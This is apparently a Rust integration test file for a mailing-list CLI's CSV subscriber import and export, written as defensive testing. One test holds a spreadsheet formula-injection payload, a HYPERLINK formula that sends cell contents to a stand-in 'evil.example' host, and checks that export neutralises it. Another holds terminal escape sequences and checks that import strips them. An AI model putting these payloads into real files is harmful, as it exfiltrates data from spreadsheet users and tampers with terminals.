//! `subscribers import` and `export`: messy CSV files, round trips, other
//! tools' exports.

use std::fmt::Write as _;

use crate::{lp, stderr};

/// The awkward CSV of the issue: BOM, CRLF, quoted commas and newlines,
/// bad addresses, a wrong field count, a duplicate in other letter case.
fn messy_csv(rows: usize) -> (String, usize) {
    let mut csv = String::from("\u{feff}Email Address,First Name,Last Name,TAGS,City\r\n");
    let mut valid = 0;
    for i in 0..rows {
        match i {
            10 => csv.push_str("bob@,Bob,Broken,,Nowhere\r\n"),
            20 => csv.push_str("only-two-fields@example.com,Two\r\n"),
            30 => csv.push_str("USER5@EXAMPLE.COM,Dup,Licate,,Elsewhere\r\n"),
            40 => csv.push_str("not an address,Sp,Ace,,X\r\n"),
            50 => csv.push_str("Suppressed@Example.com,Back,Again,,Here\r\n"),
            _ => {
                valid += 1;
                let _ = write!(
                    csv,
                    "user{i}@example.com,\"Smith, {i}\",\"Multi\r\nLine\",\"rust,news\",City {i}\r\n"
                );
            }
        }
    }
    (csv, valid)
}

#[tokio::test]
async fn import_keeps_every_valid_row_and_reports_bad_lines() {
    let lp = lp();
    lp.ok(&[
        "subscribers",
        "add",
        "suppressed@example.com",
        "--name",
        "Original",
    ])
    .await;
    lp.ok(&["subscribers", "remove", "suppressed@example.com"])
        .await;
    let (csv, valid) = messy_csv(100_000);
    std::fs::write(lp.path("list.csv"), &csv).unwrap();
    // Dry run first: validates, counts, writes nothing.
    let err = lp
        .ok(&["subscribers", "import", "list.csv", "--dry-run"])
        .await;
    assert!(err.contains(&format!("{valid} added")), "{err}");
    assert_eq!(lp.subscribers().await.len(), 1, "dry run wrote nothing");

    let err = lp.ok(&["subscribers", "import", "list.csv"]).await;
    assert!(err.contains(&format!("{valid} added")), "{err}");
    assert!(
        err.contains("1 suppressed") && err.contains("4 rejected"),
        "{err}"
    );
    // Each record spans two physical lines (a quoted newline): record i starts at line 2 + 2*i,
    // except that the bad rows are one line long. Check the messages name the right lines.
    assert!(
        err.contains("line 22: \"bob@\" is not a valid email address"),
        "{err}"
    );
    assert!(err.contains("expected 5 fields, found 2"), "{err}");
    assert!(err.contains("line 60: duplicate of line 12"), "{err}");
    assert!(
        err.contains("\"not an address\" is not a valid email address"),
        "{err}"
    );

    let list = lp.subscribers().await;
    assert_eq!(list.len(), valid + 1);
    let suppressed = list
        .iter()
        .find(|s| s["email"] == "suppressed@example.com")
        .unwrap();
    assert_eq!(
        suppressed["status"], "unsubscribed",
        "an import never reactivates"
    );
    assert_eq!(
        suppressed["name"], "Original",
        "nor changes a suppressed row"
    );
    let s = list
        .iter()
        .find(|s| s["email"] == "user7@example.com")
        .unwrap();
    // A line break in a name is a space (the one name rule, as at signup).
    assert_eq!(s["name"], "Smith, 7 Multi Line");
    assert_eq!(s["tags"], serde_json::json!(["rust", "news"]));
    assert_eq!(s["status"], "active");

    // Importing again changes nothing.
    let err = lp.ok(&["subscribers", "import", "list.csv"]).await;
    assert!(
        err.contains(&format!("0 added, 0 updated, {valid} unchanged")),
        "{err}"
    );
}

#[tokio::test]
async fn export_then_import_into_an_empty_store_round_trips() {
    let a = lp();
    std::fs::write(
        a.path("l.csv"),
        "email,name,tags,status,plan\n\
         one@example.com,\"One, Esq.\",\"a,b\",active,pro\n\
         two@bücher.de,Zwei,,unsubscribed,\n\
         three@example.com,,x,bounced,free\n\
         four@example.com,Four,,pending,\n",
    )
    .unwrap();
    a.ok(&["subscribers", "import", "l.csv"]).await;
    a.ok(&["subscribers", "export", "--out", "export.csv"])
        .await;

    let b = lp();
    std::fs::copy(a.path("export.csv"), b.path("export.csv")).unwrap();
    b.ok(&["subscribers", "import", "export.csv"]).await;
    let key = |v: &serde_json::Value| {
        (
            v["email"].clone(),
            v["name"].clone(),
            v["status"].clone(),
            v["tags"].clone(),
            v["attributes"].clone(),
        )
    };
    let mut left: Vec<_> = a.subscribers().await.iter().map(key).collect();
    let mut right: Vec<_> = b.subscribers().await.iter().map(key).collect();
    left.sort_by_key(|k| k.0.to_string());
    right.sort_by_key(|k| k.0.to_string());
    assert_eq!(left.len(), 4);
    assert_eq!(left, right);
}

#[tokio::test]
async fn listmonk_export_imports_as_is() {
    let lp = lp();
    std::fs::write(
        lp.path("listmonk.csv"),
        "uuid,email,name,attributes,status,created_at,updated_at\n\
         5e0c,ada@example.com,Ada,\"{\"\"city\"\": \"\"London\"\"}\",enabled,2024-01-01,2024-01-02\n\
         6f1d,bob@example.com,Bob,{},blocklisted,2024-01-01,2024-01-02\n",
    )
    .unwrap();
    lp.ok(&["subscribers", "import", "listmonk.csv"]).await;
    let list = lp.subscribers().await;
    let ada = list
        .iter()
        .find(|s| s["email"] == "ada@example.com")
        .unwrap();
    assert_eq!(ada["status"], "active");
    assert_eq!(ada["attributes"]["city"], "London");
    assert!(
        ada["attributes"].get("uuid").is_none(),
        "bookkeeping columns are not attributes"
    );
    assert_eq!(
        lp.status_of("bob@example.com").await.as_deref(),
        Some("unsubscribed")
    );
}

#[tokio::test]
async fn import_without_an_email_column_is_an_error_that_names_the_file() {
    let lp = lp();
    std::fs::write(lp.path("bad.csv"), "name,city\nBob,Paris\n").unwrap();
    let out = lp.run(&["subscribers", "import", "bad.csv"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("bad.csv: line 1") && stderr(&out).contains("email"),
        "{}",
        stderr(&out)
    );
    let out = lp.run(&["subscribers", "import", "missing.csv"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("missing.csv"));
}

/// Issue #10, point 9: a cell a spreadsheet would evaluate (`=`, `+`, `-`,
/// `@`, tab, CR first) is written with a leading `'`, and import takes
/// exactly that `'` off again, so the round trip is exact.
#[tokio::test]
async fn export_neutralises_formulas_and_import_undoes_it() {
    let a = lp();
    let names = [
        (
            "f1@example.com",
            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
        ),
        ("f2@example.com", "+1 555 0100"),
        ("f3@example.com", "-2+3"),
        ("f4@example.com", "@SUM(A1:A9)"),
        // Already an apostrophe before a formula character: kept exactly.
        ("f5@example.com", "'=not a formula"),
        ("f6@example.com", "O'Brien"),
        ("f7@example.com", "'quoted'"),
    ];
    let mut csv = String::from("email,name,tags,city\n");
    for (email, name) in names {
        let _ = writeln!(
            csv,
            "{email},\"{}\",\"=tag,x\",\"\t@city\"",
            name.replace('"', "\"\"")
        );
    }
    // An address may start with a formula character too.
    csv.push_str("-dash@example.com,Dash,,\n");
    std::fs::write(a.path("l.csv"), &csv).unwrap();
    a.ok(&["subscribers", "import", "l.csv"]).await;
    a.ok(&["subscribers", "export", "--out", "export.csv"])
        .await;

    let exported = std::fs::read_to_string(a.path("export.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(exported.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "an exported cell a spreadsheet would evaluate: {cell:?}\n{exported}"
            );
        }
        rows += 1;
    }
    assert_eq!(rows, names.len() + 1);
    assert!(
        exported.contains("'=HYPERLINK("),
        "the formula is kept, neutralised:\n{exported}"
    );

    let b = lp();
    std::fs::copy(a.path("export.csv"), b.path("export.csv")).unwrap();
    b.ok(&["subscribers", "import", "export.csv"]).await;
    let key = |v: &serde_json::Value| {
        (
            v["email"].to_string(),
            v["name"].to_string(),
            v["tags"].to_string(),
            v["attributes"].to_string(),
        )
    };
    let mut left: Vec<_> = a.subscribers().await.iter().map(key).collect();
    let mut right: Vec<_> = b.subscribers().await.iter().map(key).collect();
    left.sort();
    right.sort();
    assert_eq!(left, right, "export -> import round-trips exactly");
    let f1 = b
        .subscribers()
        .await
        .into_iter()
        .find(|s| s["email"] == "f1@example.com")
        .unwrap();
    assert_eq!(f1["name"], names[0].1);
    assert_eq!(f1["tags"], serde_json::json!(["=tag", "x"]));
    assert_eq!(f1["attributes"]["city"], "\t@city".trim());
    assert!(b.status_of("-dash@example.com").await.is_some());
}

/// Issue #10, point 10: an imported name gets signup's rule (control
/// characters out, at most 200 characters); a longer one is a rejection
/// with its line number.
#[tokio::test]
async fn import_normalises_names_and_rejects_long_ones_by_line() {
    let lp = lp();
    let long = "x".repeat(201);
    let longest = "é".repeat(200);
    std::fs::write(
        lp.path("l.csv"),
        format!(
            "email,name\n\
             esc@example.com,\"\u{1b}]0;pwned\u{7}\u{1b}[2JEve\"\n\
             long@example.com,{long}\n\
             max@example.com,{longest}\n\
             lines@example.com,\"Multi\r\nLine\"\n"
        ),
    )
    .unwrap();
    let err = lp.ok(&["subscribers", "import", "l.csv"]).await;
    assert!(
        err.contains("l.csv: line 3: ") && err.contains("201 characters"),
        "{err}"
    );
    assert!(
        err.contains("3 added") && err.contains("1 rejected"),
        "{err}"
    );
    let list = lp.subscribers().await;
    let name_of = |email: &str| {
        list.iter()
            .find(|s| s["email"] == email)
            .and_then(|s| s["name"].as_str())
            .map(String::from)
    };
    assert_eq!(
        name_of("esc@example.com").as_deref(),
        Some("]0;pwned[2JEve")
    );
    assert_eq!(name_of("max@example.com"), Some(longest));
    assert_eq!(name_of("lines@example.com").as_deref(), Some("Multi Line"));
    assert!(lp.status_of("long@example.com").await.is_none());
}

/// Issue #10, point 13: a quote that is never closed swallows every row
/// after it; the record is rejected naming every line it took, instead
/// of importing one subscriber with the other rows as its name.
#[tokio::test]
async fn an_unterminated_quote_is_rejected_naming_every_line_it_swallowed() {
    let lp = lp();
    std::fs::write(
        lp.path("l.csv"),
        "email,name\n\
         ok@example.com,Ok\n\
         ann@example.com,\"Ann\n\
         bob@example.com,Bob\n\
         cy@example.com,Cy\n",
    )
    .unwrap();
    let err = lp.ok(&["subscribers", "import", "l.csv"]).await;
    assert!(err.contains("l.csv: lines 3-5: "), "{err}");
    assert!(err.contains("quote"), "{err}");
    assert!(
        err.contains("1 added") && err.contains("1 rejected"),
        "{err}"
    );
    assert!(lp.status_of("ann@example.com").await.is_none());
    assert!(lp.status_of("ok@example.com").await.is_some());

    // A rejected record over several lines names them all.
    std::fs::write(
        lp.path("m.csv"),
        "email,name\n\
         \"two\nlines@example.com\",Two\n",
    )
    .unwrap();
    let err = lp.ok(&["subscribers", "import", "m.csv"]).await;
    assert!(err.contains("m.csv: lines 2-3: "), "{err}");
}

/// Issue #10, point 13: a header that names a column twice is an error at
/// line 1; nothing is imported.
#[tokio::test]
async fn a_duplicate_header_column_is_an_error_at_line_1() {
    let lp = lp();
    for header in ["email,name,Name", "email,E-Mail,name", "email,city,City"] {
        std::fs::write(lp.path("d.csv"), format!("{header}\na@example.com,x,y\n")).unwrap();
        let out = lp.run(&["subscribers", "import", "d.csv"]).await;
        assert_eq!(out.status.code(), Some(1), "{header}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("d.csv: line 1: ") && stderr(&out).contains("twice"),
            "{header}: {}",
            stderr(&out)
        );
        assert!(lp.subscribers().await.is_empty(), "{header}");
    }
}

/// Issue #10, point 13: with `--strict`, any rejected row fails the import
/// (exit 1) and nothing is written; with `--dry-run` too it is a check.
#[tokio::test]
async fn strict_import_fails_on_any_rejected_row_and_writes_nothing() {
    let lp = lp();
    let bad = "email,name\ngood@example.com,Good\nbob@,Broken\n";
    std::fs::write(lp.path("bad.csv"), bad).unwrap();
    for extra in [&["--dry-run"][..], &[]] {
        let mut args = vec!["subscribers", "import", "bad.csv", "--strict"];
        args.extend_from_slice(extra);
        let out = lp.run(&args).await;
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("bad.csv: line 3: "),
            "{}",
            stderr(&out)
        );
        assert!(lp.subscribers().await.is_empty(), "{args:?} wrote nothing");
    }
    std::fs::write(lp.path("good.csv"), "email,name\ngood@example.com,Good\n").unwrap();
    let out = lp
        .run(&["subscribers", "import", "good.csv", "--strict", "--dry-run"])
        .await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        lp.subscribers().await.is_empty(),
        "a dry run writes nothing"
    );
    lp.ok(&["subscribers", "import", "good.csv", "--strict"])
        .await;
    assert_eq!(lp.subscribers().await.len(), 1);
    // Without --strict a rejected row is reported and the rest imported.
    lp.ok(&["subscribers", "import", "bad.csv"]).await;
}
